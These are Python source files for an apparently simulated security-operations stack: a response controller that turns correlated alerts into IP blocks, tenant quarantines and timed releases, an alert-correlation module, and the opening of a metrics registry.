    # -- monitors (single or merged fleet view) -------------------------------
    @property
    def monitors(self) -> List:
        inner = getattr(self.monitor, "monitors", None)
        return list(inner) if inner is not None else [self.monitor]

    # -- observable action feed -----------------------------------------------
    def subscribe(self, fn: Callable[[ResponseAction], None], *,
                  replay: bool = False) -> None:
        """Watch every decided action as it happens; ``replay`` first
        delivers the actions already on the log."""
        self.observers.append(fn)
        if replay:
            for action in self.executed:
                fn(action)

    def _publish(self, action: ResponseAction) -> None:
        self.executed.append(action)
        if self._tele_on:
            # Every decided action — containment, intel block, release —
            # flows through here, so this is the one place the trace
            # gains its ``soc.action`` leaf (parented to the incident
            # span when the action belongs to a correlated incident).
            from repro.telemetry import TraceContext

            parent = None
            if action.incident_id != "-":
                incident = self.correlator.get(action.incident_id)
                if incident is not None and incident.span_id:
                    parent = TraceContext(incident.trace_id, incident.span_id)
            span = self.telemetry.tracer.start_span(
                "soc.action", parent=parent, ts=action.ts,
                rule=action.rule, action=action.action, target=action.target,
                incident_id=action.incident_id, ok=action.ok,
                dry_run=action.dry_run)
            span.finish(action.ts, status="ok" if action.ok else "failed")
            self.telemetry.timeline.record(
                action.ts, "soc.action", source=action.target, ctx=span.ctx,
                rule=action.rule, action=action.action,
                incident_id=action.incident_id, ok=action.ok)
        for fn in self.observers:
            fn(action)

    # -- honeypot intel -------------------------------------------------------
    def adopt_fleet(self, fleet) -> None:
        """Close the honeypot loop: harvest on poll, and subscribe the
        production side to the fleet's intel feed."""
        self.fleet = fleet
        self.subscribe_feed(fleet.feed)

    def subscribe_feed(self, feed) -> None:
        for monitor in self.monitors:
            feed.subscribe_engine(monitor.signatures)
        if self.policy.auto_block_intel:
            feed.subscribe(self._on_indicator)

    def _intel_valid_until(self, indicator) -> Optional[float]:
        if indicator.valid_until is not None:
            return indicator.valid_until
        if self.policy.intel_ttl > 0:
            return indicator.created + self.policy.intel_ttl
        return None

    def _on_indicator(self, indicator) -> None:
        if indicator.indicator_type != "source-ip":
            return
        if indicator.confidence < self.policy.intel_min_confidence:
            return
        ip = indicator.pattern
        if ip in self._intel_blocked:
            return
        self._intel_blocked.add(ip)
        self._intel_expiry[ip] = self._intel_valid_until(indicator)
        ok, detail = (True, "dry-run") if self.policy.dry_run \
            else self.actions.block_source(ip)
        if ok and ip in self._ever_released:
            self.re_contained_total += 1
        self._publish(ResponseAction(
            ts=self.loop.clock.now(), rule="intel-auto-block",
            action="block_source", target=ip, incident_id="-",
            ok=ok, dry_run=self.policy.dry_run,
            detail=detail or f"indicator {indicator.indicator_id} "
                             f"({indicator.source})"))

    # -- the poll loop --------------------------------------------------------
    def _schedule(self) -> None:
        self.loop.call_later(self.policy.poll_interval, self._tick)

    def _tick(self) -> None:
        self.poll()
        self._schedule()

    def poll(self) -> List[ResponseAction]:
        """One detection→containment pass; returns the actions decided."""
        self.polls += 1
        before = len(self.executed)
        if self.fleet is not None and self.policy.harvest_on_poll:
            self.fleet.harvest_now()
            self.fleet.publish_source_indicators()
        self.correlator.collect(self.monitor)
        now = self.loop.clock.now()
        if self.slo is not None:
            burn = self.slo.evaluate(now)
            if burn:
                self.correlator.ingest(burn)
        # Contained incidents stay eligible: the playbook's cooldown +
        # new-evidence gating governs re-firing, so an attack that
        # continues past a partial containment (or returns after an
        # unblock) is re-evaluated instead of latched closed forever.
        for incident in self.correlator.incidents.values():
            for rule in self.playbook.due(incident, now):
                self.playbook.mark_fired(rule, incident, now)
                for action_name in rule.actions:
                    self._dispatch(rule, action_name, incident)
        if not self.policy.dry_run:
            self._uncontain(now)
        return self.executed[before:]

    # -- un-containment -------------------------------------------------------
    def _release(self, *, rule: str, action: str, target: str,
                 detail: str) -> bool:
        method = getattr(self.actions, action)
        ok, note = method(target)
        self._publish(ResponseAction(
            ts=self.loop.clock.now(), rule=rule, action=action,
            target=target, incident_id="-", ok=ok, dry_run=False,
            detail=f"{detail}; {note}"))
        if ok:
            self.released_total += 1
            self._ever_released.add(target)
        return ok

    def _uncontain(self, now: float) -> None:
        """Lift containment that has outlived its policy window: quiet
        quarantines, quiet incident blocks past their TTL, and intel
        blocks whose indicator expired.

        Bookkeeping for an expired containment is cleared even when the
        release action itself reports failure (the world already matches
        the desired state — e.g. another path unblocked the source
        first); otherwise the expired entry would be retried and logged
        on every poll forever, and an intel-blocked source could never
        be auto-blocked again after a later burn.
        """
        policy = self.policy
        if policy.quarantine_release_after > 0 and self.actions.spawner is not None:
            for name in sorted(self.actions.spawner.quarantined):
                since = self.quarantined_at.get(name, 0.0)
                evidence = [self.correlator.last_evidence_for_tenant(name)]
                source = self._quarantine_source.get(name)
                if source:
                    evidence.append(
                        self.correlator.last_evidence_for_source(source))
                quiet_since = max([since] + [e for e in evidence
                                             if e is not None])
                if now - quiet_since >= policy.quarantine_release_after:
                    self._release(
                        rule="quarantine-auto-release",
                        action="release_tenant", target=name,
                        detail=f"quiet for {now - quiet_since:.0f}s")
                    self.quarantined_at.pop(name, None)
                    self._quarantine_source.pop(name, None)
        if policy.block_ttl > 0:
            for ip, since in sorted(self.blocked_at.items()):
                evidence = self.correlator.last_evidence_for_source(ip)
                quiet_since = max(since, evidence or 0.0)
                if now - quiet_since >= policy.block_ttl:
                    self._release(
                        rule="block-ttl-expiry", action="unblock_source",
                        target=ip,
                        detail=f"quiet for {now - quiet_since:.0f}s")
                    self.blocked_at.pop(ip, None)
        for ip in sorted(self._intel_blocked):
            expiry = self._intel_expiry.get(ip)
            if expiry is not None and now >= expiry:
                self._release(rule="intel-expiry", action="unblock_source",
                              target=ip,
                              detail=f"indicator expired at {expiry:.0f}s")
                self._intel_blocked.discard(ip)
                self._intel_expiry.pop(ip, None)

    # -- action dispatch ------------------------------------------------------
    def _dispatch(self, rule: ResponseRule, action_name: str,
                  incident: Incident) -> None:
        targets = self._resolve_targets(action_name, incident)
        if not targets:
            self._record(rule, action_name, "-", incident, ok=False,
                         detail="no resolvable target")
            return
        for action, target in targets:
            if self.policy.dry_run:
                self._record(rule, action, target, incident,
                             ok=True, detail="dry-run")
                continue
            ok, detail = self._execute(action, target)
            self._record(rule, action, target, incident, ok=ok, detail=detail)
            if ok:
                incident.status = "contained"
                if action == "block_source":
                    self.blocked_at[target] = self.loop.clock.now()
                elif action == "quarantine_tenant":
                    self.quarantined_at[target] = self.loop.clock.now()
                    self._quarantine_source[target] = incident.source
                if action in ("block_source", "quarantine_tenant") \
                        and target in self._ever_released:
                    self.re_contained_total += 1

    def _resolve_targets(self, action_name: str, incident: Incident):
        """Map an abstract rule action onto concrete (action, target)
        pairs for this incident."""
        if action_name == "block_source":
            if incident.source and "." in incident.source:
                return [("block_source", incident.source)]
            return []
        if action_name == "revoke_exposed_tokens":
            return [("revoke_token", name) for name in sorted(incident.tenants)]
        if action_name == "quarantine_tenants":
            tenants = sorted(incident.tenants) or \
                self.actions.tenants_on_host_ip(incident.source)
            if tenants:
                return [("quarantine_tenant", name) for name in tenants]
            # No tenant resolves (e.g. the source is a client session,
            # not a fleet node): contain the session at the edge instead.
            if incident.source and "." in incident.source:
                return [("block_source", incident.source)]
            return []
        if action_name == "unblock_source":
            return [("unblock_source", incident.source)]
        return [(action_name, incident.source)]

    def _execute(self, action: str, target: str):
        method = getattr(self.actions, action, None)
        if method is None:
            return False, f"unknown action {action!r}"
        return method(target)

    def _record(self, rule: ResponseRule, action: str, target: str,
                incident: Incident, *, ok: bool, detail: str) -> None:
        record = ResponseAction(
            ts=self.loop.clock.now(), rule=rule.name, action=action,
            target=target, incident_id=incident.incident_id,
            ok=ok, dry_run=self.policy.dry_run, detail=detail)
        self._publish(record)
        incident.actions.append(record)

    # -- reporting ------------------------------------------------------------
    def containment_actions(self) -> List[ResponseAction]:
        """Actions that actually changed the world (executed and ok)."""
        return [a for a in self.executed if a.ok and not a.dry_run]

    def release_actions(self) -> List[ResponseAction]:
        """Executed un-containment actions (auto-release / TTL expiry)."""
        return [a for a in self.containment_actions()
                if a.action in ("release_tenant", "unblock_source")]

    def first_containment_ts(self) -> Optional[float]:
        executed = self.containment_actions()
        return min((a.ts for a in executed), default=None)

    def timeline(self) -> List[str]:
        lines = [f"{i.opened:9.2f}s  incident  {i.describe()}"
                 for i in self.correlator.by_severity()]
        lines += [f"{a.ts:9.2f}s  action    [{a.rule}] {a.action}({a.target}) "
                  f"{'DRY-RUN' if a.dry_run else ('ok' if a.ok else 'FAILED')} "
                  f"{a.detail}" for a in self.executed]
        return sorted(lines, key=lambda l: float(l.split("s", 1)[0]))

    def summary(self) -> Dict[str, object]:
        return {
            "policy": {"rules": [r.name for r in self.playbook.rules],
                       "poll_interval": self.policy.poll_interval,
                       "dry_run": self.policy.dry_run},
            "polls": self.polls,
            "incidents": self.correlator.summary(),
            "actions": {
                "decided": len(self.executed),
                "executed": len(self.containment_actions()),
                "failed": sum(1 for a in self.executed
                              if not a.ok and not a.dry_run),
                "dry_run": sum(1 for a in self.executed if a.dry_run),
            },
            "uncontainment": {
                "released_total": self.released_total,
                "re_contained_total": self.re_contained_total,
            },
        }
