"""The response controller: detection → incident → playbook → containment.

One :class:`ResponseController` closes the loop for one hub fleet.  On
an event-loop cadence (like the idle culler) it:

1. harvests any adopted honeypot fleet, so decoy burns become intel
   indicators within one poll;
2. folds new monitor notices into incidents via the
   :class:`~repro.soc.incidents.AlertCorrelator`;
3. evaluates the :class:`~repro.soc.playbook.PlaybookRunner` rules
   against open incidents and executes the due containment actions.

Independently of the poll, the controller subscribes to the threat-intel
feed: content-signature indicators are installed into every monitor's
signature engine, and burned-source indicators are auto-blocked at every
front door — the ROADMAP's "honeypot burn → fleet-wide block" path, with
the detection→containment lead time measurable from the action log.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence

from repro.soc.actions import ContainmentActions
from repro.soc.incidents import AlertCorrelator, Incident
from repro.soc.playbook import (
    PlaybookRunner,
    ResponseAction,
    ResponsePolicy,
    ResponseRule,
)


class ResponseController:
    """Wires correlation, playbooks, and containment to one fleet."""

    def __init__(self, *, loop, monitor, proxies: Sequence = (),
                 users=None, spawner=None,
                 policy: Optional[ResponsePolicy] = None,
                 internal_prefix: str = "10."):
        self.loop = loop
        self.monitor = monitor
        self.policy = policy or ResponsePolicy()
        self.correlator = AlertCorrelator(internal_prefix=internal_prefix)
        self.playbook = PlaybookRunner(self.policy.rules)
        self.actions = ContainmentActions(proxies=proxies, users=users,
                                          spawner=spawner)
        #: Every action decided, executed or dry-run, in decision order.
        self.executed: List[ResponseAction] = []
        self.polls = 0
        self.fleet = None  # honeypot fleet, when the topology has decoys
        self._intel_blocked: set = set()
        if self.policy.enabled:
            self._schedule()

    # -- monitors (single or merged fleet view) -------------------------------
    @property
    def monitors(self) -> List:
        inner = getattr(self.monitor, "monitors", None)
        return list(inner) if inner is not None else [self.monitor]

    # -- honeypot intel -------------------------------------------------------
    def adopt_fleet(self, fleet) -> None:
        """Close the honeypot loop: harvest on poll, and subscribe the
        production side to the fleet's intel feed."""
        self.fleet = fleet
        self.subscribe_feed(fleet.feed)

    def subscribe_feed(self, feed) -> None:
        for monitor in self.monitors:
            feed.subscribe_engine(monitor.signatures)
        if self.policy.auto_block_intel:
            feed.subscribe(self._on_indicator)

    def _on_indicator(self, indicator) -> None:
        if indicator.indicator_type != "source-ip":
            return
        if indicator.confidence < self.policy.intel_min_confidence:
            return
        ip = indicator.pattern
        if ip in self._intel_blocked:
            return
        self._intel_blocked.add(ip)
        ok, detail = (True, "dry-run") if self.policy.dry_run \
            else self.actions.block_source(ip)
        self.executed.append(ResponseAction(
            ts=self.loop.clock.now(), rule="intel-auto-block",
            action="block_source", target=ip, incident_id="-",
            ok=ok, dry_run=self.policy.dry_run,
            detail=detail or f"indicator {indicator.indicator_id} "
                             f"({indicator.source})"))

    # -- the poll loop --------------------------------------------------------
    def _schedule(self) -> None:
        self.loop.call_later(self.policy.poll_interval, self._tick)

    def _tick(self) -> None:
        self.poll()
        self._schedule()

    def poll(self) -> List[ResponseAction]:
        """One detection→containment pass; returns the actions decided."""
        self.polls += 1
        before = len(self.executed)
        if self.fleet is not None and self.policy.harvest_on_poll:
            self.fleet.harvest_now()
            self.fleet.publish_source_indicators()
        self.correlator.collect(self.monitor)
        now = self.loop.clock.now()
        # Contained incidents stay eligible: the playbook's cooldown +
        # new-evidence gating governs re-firing, so an attack that
        # continues past a partial containment (or returns after an
        # unblock) is re-evaluated instead of latched closed forever.
        for incident in self.correlator.incidents.values():
            for rule in self.playbook.due(incident, now):
                self.playbook.mark_fired(rule, incident, now)
                for action_name in rule.actions:
                    self._dispatch(rule, action_name, incident)
        return self.executed[before:]

    # -- action dispatch ------------------------------------------------------
    def _dispatch(self, rule: ResponseRule, action_name: str,
                  incident: Incident) -> None:
        targets = self._resolve_targets(action_name, incident)
        if not targets:
            self._record(rule, action_name, "-", incident, ok=False,
                         detail="no resolvable target")
            return
        for action, target in targets:
            if self.policy.dry_run:
                self._record(rule, action, target, incident,
                             ok=True, detail="dry-run")
                continue
            ok, detail = self._execute(action, target)
            self._record(rule, action, target, incident, ok=ok, detail=detail)
            if ok:
                incident.status = "contained"

    def _resolve_targets(self, action_name: str, incident: Incident):
        """Map an abstract rule action onto concrete (action, target)
        pairs for this incident."""
        if action_name == "block_source":
            if incident.source and "." in incident.source:
                return [("block_source", incident.source)]
            return []
        if action_name == "revoke_exposed_tokens":
            return [("revoke_token", name) for name in sorted(incident.tenants)]
        if action_name == "quarantine_tenants":
            tenants = sorted(incident.tenants) or \
                self.actions.tenants_on_host_ip(incident.source)
            if tenants:
                return [("quarantine_tenant", name) for name in tenants]
            # No tenant resolves (e.g. the source is a client session,
            # not a fleet node): contain the session at the edge instead.
            if incident.source and "." in incident.source:
                return [("block_source", incident.source)]
            return []
        if action_name == "unblock_source":
            return [("unblock_source", incident.source)]
        return [(action_name, incident.source)]

    def _execute(self, action: str, target: str):
        method = getattr(self.actions, action, None)
        if method is None:
            return False, f"unknown action {action!r}"
        return method(target)

    def _record(self, rule: ResponseRule, action: str, target: str,
                incident: Incident, *, ok: bool, detail: str) -> None:
        record = ResponseAction(
            ts=self.loop.clock.now(), rule=rule.name, action=action,
            target=target, incident_id=incident.incident_id,
            ok=ok, dry_run=self.policy.dry_run, detail=detail)
        self.executed.append(record)
        incident.actions.append(record)

    # -- reporting ------------------------------------------------------------
    def containment_actions(self) -> List[ResponseAction]:
        """Actions that actually changed the world (executed and ok)."""
        return [a for a in self.executed if a.ok and not a.dry_run]

    def first_containment_ts(self) -> Optional[float]:
        executed = self.containment_actions()
        return min((a.ts for a in executed), default=None)

    def timeline(self) -> List[str]:
        lines = [f"{i.opened:9.2f}s  incident  {i.describe()}"
                 for i in self.correlator.by_severity()]
        lines += [f"{a.ts:9.2f}s  action    [{a.rule}] {a.action}({a.target}) "
                  f"{'DRY-RUN' if a.dry_run else ('ok' if a.ok else 'FAILED')} "
                  f"{a.detail}" for a in self.executed]
        return sorted(lines, key=lambda l: float(l.split("s", 1)[0]))

    def summary(self) -> Dict[str, object]:
        return {
            "policy": {"rules": [r.name for r in self.playbook.rules],
                       "poll_interval": self.policy.poll_interval,
                       "dry_run": self.policy.dry_run},
            "polls": self.polls,
            "incidents": self.correlator.summary(),
            "actions": {
                "decided": len(self.executed),
                "executed": len(self.containment_actions()),
                "failed": sum(1 for a in self.executed
                              if not a.ok and not a.dry_run),
                "dry_run": sum(1 for a in self.executed if a.dry_run),
            },
        }
