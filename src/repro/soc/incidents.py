"""Alert correlation: notice streams in, deduplicated incidents out.

Detectors emit :class:`~repro.monitor.logs.Notice` records per
observation; an analyst (and a playbook) reasons about *incidents* — one
sustained activity by one source down one avenue.  The
:class:`AlertCorrelator` folds notices into :class:`Incident` objects
keyed by ``(source, tenant, avenue)`` with severity escalation, and
deduplicates across shards: a sweep that trips three per-shard monitors
plus the fleet-level detector is still *one* incident, because every
shard's notice carries the same source and avenue.

The correlator is pull-based: :meth:`collect` reads whatever notices a
monitor (or merged fleet view) has accumulated and processes each notice
object exactly once, so it can be polled from the response controller's
event-loop tick without double-counting.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Set, Tuple

from repro.monitor.logs import Notice
from repro.soc.playbook import ResponseAction, severity_rank
from repro.taxonomy.oscrp import Avenue

IncidentKey = Tuple[str, str, Optional[Avenue]]


def _looks_like_ip(source: str) -> bool:
    """Notice sources are IPs on the network plane but *principals*
    (session usernames, "kernel") on the audit plane; only the former
    can be external infrastructure."""
    return bool(source) and all(c.isdigit() or c == "." for c in source)


@dataclass
class Incident:
    """One correlated activity: a source working an avenue."""

    incident_id: str
    source: str
    tenant: str
    avenue: Optional[Avenue]
    opened: float
    last_update: float
    severity: str = "low"
    notice_count: int = 0
    notice_names: List[str] = field(default_factory=list)  # ordered, unique
    detectors: Set[str] = field(default_factory=set)
    #: Tenants the notices implicate (e.g. a sweep's example_tenants) —
    #: the targets token-revocation and quarantine actions resolve.
    tenants: Set[str] = field(default_factory=set)
    external: bool = False
    status: str = "open"  # "open" | "contained"
    actions: List[ResponseAction] = field(default_factory=list)
    #: Trace identity (when telemetry is enabled): the ``incident`` span,
    #: parented to the first correlated notice's ``detector.hit`` span.
    trace_id: str = ""
    span_id: str = ""

    @property
    def key(self) -> IncidentKey:
        return (self.source, self.tenant, self.avenue)

    @property
    def contained(self) -> bool:
        return any(a.ok and not a.dry_run for a in self.actions)

    def describe(self) -> str:
        avenue = self.avenue.value if self.avenue else "-"
        return (f"{self.incident_id} src={self.source or '-'} "
                f"avenue={avenue} sev={self.severity} "
                f"notices={self.notice_count} "
                f"[{','.join(self.notice_names)}] status={self.status}")


class AlertCorrelator:
    """Folds notice streams into incidents.

    ``internal_prefix`` classifies incident sources the way the
    monitor's egress detectors do: a source outside the prefix is
    attacker infrastructure (blockable at the front door), inside it is
    a compromised fleet asset (quarantinable, not blockable).
    """

    def __init__(self, *, internal_prefix: str = "10.",
                 min_severity: str = "low", telemetry=None):
        from repro.telemetry import Telemetry

        self.internal_prefix = internal_prefix
        self.min_severity = min_severity
        self.incidents: Dict[IncidentKey, Incident] = {}
        self._by_id: Dict[str, Incident] = {}
        self._seen_notices: Set[Tuple] = set()
        #: Per-source read cursors into append-only notice lists, so a
        #: 2-second poll cadence costs O(new notices), not O(log size).
        self._cursors: Dict[int, int] = {}
        self._counter = 0
        self.telemetry = telemetry if telemetry is not None else Telemetry.disabled()
        self._tele_on = self.telemetry.enabled

    # -- intake ---------------------------------------------------------------
    def collect(self, monitor) -> List[Incident]:
        """Fold every not-yet-seen notice from ``monitor`` (a
        :class:`JupyterNetworkMonitor` or merged fleet view); returns the
        incidents that changed.  Reads each underlying append-only
        notice list from a cursor, so repeated polls only pay for the
        tail (the fingerprint set still deduplicates the same event
        reported by two shards)."""
        inner = getattr(monitor, "monitors", None)
        if inner is None:
            return self._ingest_tail(monitor.logs.notices, source=id(monitor))
        # A merged fleet view: read each shard monitor's own log plus
        # the view's fleet-level notices, all append-only.
        refresh = getattr(monitor, "refresh", None)
        if refresh is not None:
            refresh()
        touched: List[Incident] = []
        for shard_monitor in inner:
            touched.extend(self._ingest_tail(shard_monitor.logs.notices,
                                             source=id(shard_monitor)))
        fleet_notices = getattr(monitor, "fleet_notices", None)
        if fleet_notices is not None:
            touched.extend(self._ingest_tail(fleet_notices, source=id(monitor)))
        return touched

    def _ingest_tail(self, notices: List[Notice], *, source: int) -> List[Incident]:
        start = self._cursors.get(source, 0)
        touched = self.ingest(notices[start:])
        self._cursors[source] = len(notices)
        return touched

    @staticmethod
    def _fingerprint(notice: Notice) -> Tuple:
        """Content identity, not object identity: repeated polls over
        the same log, and two shard monitors reporting the same event
        from their own vantage points, fold to one observation."""
        return (notice.ts, notice.detector, notice.name, notice.src,
                notice.dst, notice.severity)

    def ingest(self, notices: Iterable[Notice]) -> List[Incident]:
        touched: Dict[IncidentKey, Incident] = {}
        for notice in notices:
            marker = self._fingerprint(notice)
            if marker in self._seen_notices:
                continue
            self._seen_notices.add(marker)
            if severity_rank(notice.severity) < severity_rank(self.min_severity):
                continue
            incident = self._fold(notice)
            touched[incident.key] = incident
        return list(touched.values())

    def _fold(self, notice: Notice) -> Incident:
        tenant = str(notice.detail.get("tenant", "")) if notice.detail else ""
        key: IncidentKey = (notice.src, tenant, notice.avenue)
        incident = self.incidents.get(key)
        if incident is None:
            self._counter += 1
            incident = Incident(
                incident_id=f"INC-{self._counter:04d}",
                source=notice.src, tenant=tenant, avenue=notice.avenue,
                opened=notice.ts, last_update=notice.ts,
                external=_looks_like_ip(notice.src)
                and not notice.src.startswith(self.internal_prefix),
            )
            self.incidents[key] = incident
            self._by_id[incident.incident_id] = incident
            if self._tele_on:
                # The incident joins the first notice's trace: the chain
                # request → detector → incident stays walkable even after
                # the correlator folds hundreds more notices in.
                from repro.telemetry import TraceContext

                parent = (TraceContext(notice.trace_id, notice.span_id)
                          if notice.span_id else None)
                span = self.telemetry.tracer.start_span(
                    "incident", parent=parent, ts=notice.ts,
                    incident_id=incident.incident_id, source=notice.src,
                    avenue=notice.avenue.value if notice.avenue else "-",
                    first_notice=notice.name)
                incident.trace_id = span.trace_id
                incident.span_id = span.span_id
                self.telemetry.timeline.record(
                    notice.ts, "incident.opened", source=notice.src,
                    ctx=span.ctx, incident_id=incident.incident_id,
                    first_notice=notice.name)
        incident.last_update = max(incident.last_update, notice.ts)
        incident.notice_count += 1
        if notice.name not in incident.notice_names:
            incident.notice_names.append(notice.name)
        incident.detectors.add(notice.detector)
        if severity_rank(notice.severity) > severity_rank(incident.severity):
            incident.severity = notice.severity
        if notice.detail:
            for name in notice.detail.get("example_tenants", ()) or ():
                incident.tenants.add(str(name))
        return incident

    # -- queries --------------------------------------------------------------
    def open_incidents(self) -> List[Incident]:
        return [i for i in self.incidents.values() if i.status == "open"]

    def last_evidence_for_source(self, source: str) -> Optional[float]:
        """Most recent notice timestamp across incidents blamed on
        ``source`` — the quiet-period clock the un-containment path reads
        before unblocking."""
        updates = [i.last_update for i in self.incidents.values()
                   if i.source == source]
        return max(updates) if updates else None

    def last_evidence_for_tenant(self, name: str) -> Optional[float]:
        """Most recent notice timestamp across incidents implicating
        tenant ``name`` (as the incident's tenant key or among the
        accumulated implicated tenants)."""
        updates = [i.last_update for i in self.incidents.values()
                   if i.tenant == name or name in i.tenants]
        return max(updates) if updates else None

    def get(self, incident_id: str) -> Optional[Incident]:
        return self._by_id.get(incident_id)

    def by_severity(self) -> List[Incident]:
        return sorted(self.incidents.values(),
                      key=lambda i: (-severity_rank(i.severity), i.opened))

    def summary(self) -> Dict[str, object]:
        return {
            "incidents": len(self.incidents),
            "open": len(self.open_incidents()),
            "contained": sum(1 for i in self.incidents.values()
                             if i.status == "contained"),
            "by_severity": {
                sev: sum(1 for i in self.incidents.values() if i.severity == sev)
                for sev in ("critical", "high", "medium", "low")
                if any(i.severity == sev for i in self.incidents.values())
            },
        }
