"""Labeled metrics: counters, gauges, and fixed-bucket histograms.

One :class:`MetricsRegistry` is shared by everything a single
``WorldBuilder.build`` produces — proxy shards, monitors, spawner,
culler, SOC controller, adversary runner — so a fleet-wide scrape is
one call, not a tour of five private stat objects.

Two design rules keep the hot paths honest:

- **Null objects, not branches.**  A disabled registry hands out one
  shared :data:`NULL_INSTRUMENT` whose methods do nothing, so
  instrumented code never tests an ``enabled`` flag per event and the
  disabled cost is a no-op method call at worst (usually zero, because
  integration points also keep a cached ``enabled`` boolean and skip
  the call entirely).
- **Collect at scrape, not at increment.**  Existing per-subsystem
  counters (``ProxyStats``, ``MonitorHealth``, SOC totals) stay plain
  ``int`` attributes on their owners; the owners register *collectors* —
  callbacks run by :meth:`MetricsRegistry.collect` that copy the live
  values into registry instruments.  The steady-state request path pays
  nothing for metrics that can be derived at scrape time.
"""

from __future__ import annotations

import bisect
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.telemetry.sketch import QuantileSketch

__all__ = [
    "Counter",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "MetricSample",
    "NULL_INSTRUMENT",
    "DEFAULT_BUCKETS",
]

LabelPairs = Tuple[Tuple[str, str], ...]

#: Default histogram buckets, in seconds — tuned for sim-time latencies
#: (sub-millisecond link hops up to multi-minute containment leadtimes).
DEFAULT_BUCKETS: Tuple[float, ...] = (
    0.001, 0.005, 0.01, 0.05, 0.1, 0.5, 1.0, 5.0, 10.0, 60.0, 300.0)


class _NullInstrument:
    """Shared do-nothing stand-in for every instrument of a disabled
    registry.  ``labels()`` returns itself so call chains stay valid."""

    __slots__ = ()

    def labels(self, **_kv: str) -> "_NullInstrument":
        return self

    def inc(self, amount: float = 1.0) -> None:
        pass

    def dec(self, amount: float = 1.0) -> None:
        pass

    def set(self, value: float) -> None:
        pass

    def observe(self, value: float) -> None:
        pass


NULL_INSTRUMENT = _NullInstrument()


class Counter:
    """A monotonically increasing value.  ``set()`` exists for
    scrape-time adapters that mirror an externally-owned total."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value: float = 0.0

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount

    def set(self, value: float) -> None:
        # Adapters copy a live total; never step a counter backwards.
        if value > self.value:
            self.value = value


class Gauge:
    """A value that can go up and down."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value: float = 0.0

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount

    def dec(self, amount: float = 1.0) -> None:
        self.value -= amount

    def set(self, value: float) -> None:
        self.value = value


class Histogram:
    """Sketch-backed histogram with an exact fixed-bucket export.

    Every observation feeds two stores: a mergeable
    :class:`~repro.telemetry.sketch.QuantileSketch` (the fleet-grade
    backing — :meth:`quantile` and cross-shard :meth:`merge_from` read
    it) *and* the original per-bound integer counters.  The fixed-bound
    counters are kept because the Prometheus ``le`` export promises
    exact counts at the declared bounds, which a log-bucketed sketch can
    only approximate (its grid does not align with arbitrary bounds);
    carrying both keeps the scrape output byte-identical to the
    pre-sketch histogram (the parity test in tests/test_telemetry.py
    holds it to 1 ULP) while the sketch answers p50/p99 and merges.
    """

    __slots__ = ("buckets", "counts", "sum", "count", "sketch")

    def __init__(self, buckets: Sequence[float],
                 sketch: Optional[QuantileSketch] = None) -> None:
        self.buckets: Tuple[float, ...] = tuple(buckets)
        self.counts: List[int] = [0] * (len(self.buckets) + 1)  # +Inf tail
        self.sum: float = 0.0
        self.count: int = 0
        self.sketch = sketch if sketch is not None else QuantileSketch()

    def observe(self, value: float) -> None:
        self.counts[bisect.bisect_left(self.buckets, value)] += 1
        self.sum += value
        self.count += 1
        self.sketch.add(value)

    def quantile(self, q: float) -> float:
        """Quantile estimate from the sketch backing (relative error
        bounded by the sketch's ``alpha``)."""
        return self.sketch.quantile(q)

    def merge_from(self, other: "Histogram") -> None:
        """Fold another shard's histogram into this one.  Fixed-bucket
        counters add only when the bound grids match; the sketches merge
        exactly regardless (same default ``alpha`` grid)."""
        if other.buckets != self.buckets:
            raise ValueError(
                f"cannot merge histograms with different bounds "
                f"({self.buckets} vs {other.buckets})")
        for i, n in enumerate(other.counts):
            self.counts[i] += n
        self.sum += other.sum
        self.count += other.count
        self.sketch.merge(other.sketch)


class MetricFamily:
    """A named metric plus its labeled children.

    ``labels(**kv)`` returns the child for one label combination,
    creating it on first use; an unlabeled family has exactly one child
    (the empty label set) and the family itself proxies ``inc``/``set``/
    ``observe`` to it for convenience.
    """

    __slots__ = ("name", "help", "type", "labelnames", "buckets", "_children")

    def __init__(self, name: str, help_text: str, metric_type: str,
                 labelnames: Tuple[str, ...],
                 buckets: Optional[Sequence[float]] = None) -> None:
        self.name = name
        self.help = help_text
        self.type = metric_type
        self.labelnames = labelnames
        self.buckets = tuple(buckets) if buckets is not None else None
        self._children: Dict[Tuple[str, ...], object] = {}

    def _make(self) -> object:
        if self.type == "counter":
            return Counter()
        if self.type == "gauge":
            return Gauge()
        return Histogram(self.buckets or DEFAULT_BUCKETS)

    def labels(self, **kv: object):
        values = tuple(str(kv[name]) for name in self.labelnames)
        child = self._children.get(values)
        if child is None:
            if set(kv) != set(self.labelnames):
                raise ValueError(
                    f"metric {self.name!r} takes labels {self.labelnames}, "
                    f"got {tuple(sorted(kv))}")
            child = self._children[values] = self._make()
        return child

    # Unlabeled convenience: family acts as its own single child.
    def _default(self):
        child = self._children.get(())
        if child is None:
            child = self._children[()] = self._make()
        return child

    def inc(self, amount: float = 1.0) -> None:
        self._default().inc(amount)

    def dec(self, amount: float = 1.0) -> None:
        self._default().dec(amount)

    def set(self, value: float) -> None:
        self._default().set(value)

    def observe(self, value: float) -> None:
        self._default().observe(value)

    def samples(self) -> List["MetricSample"]:
        out: List[MetricSample] = []
        for values, child in sorted(self._children.items()):
            pairs: LabelPairs = tuple(zip(self.labelnames, values))
            if isinstance(child, Histogram):
                running = 0
                for bound, n in zip(child.buckets, child.counts):
                    running += n
                    out.append(MetricSample(
                        f"{self.name}_bucket", pairs + (("le", _fmt(bound)),),
                        float(running)))
                out.append(MetricSample(
                    f"{self.name}_bucket", pairs + (("le", "+Inf"),),
                    float(child.count)))
                out.append(MetricSample(f"{self.name}_sum", pairs, child.sum))
                out.append(MetricSample(
                    f"{self.name}_count", pairs, float(child.count)))
            else:
                out.append(MetricSample(self.name, pairs, child.value))
        return out


def _fmt(v: float) -> str:
    return repr(int(v)) if float(v).is_integer() else repr(v)


class MetricSample:
    """One ``(name, labels, value)`` scrape row."""

    __slots__ = ("name", "labels", "value")

    def __init__(self, name: str, labels: LabelPairs, value: float) -> None:
        self.name = name
        self.labels = labels
        self.value = value

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        lbl = ",".join(f"{k}={v!r}" for k, v in self.labels)
        return f"MetricSample({self.name}{{{lbl}}} {self.value})"


class MetricsRegistry:
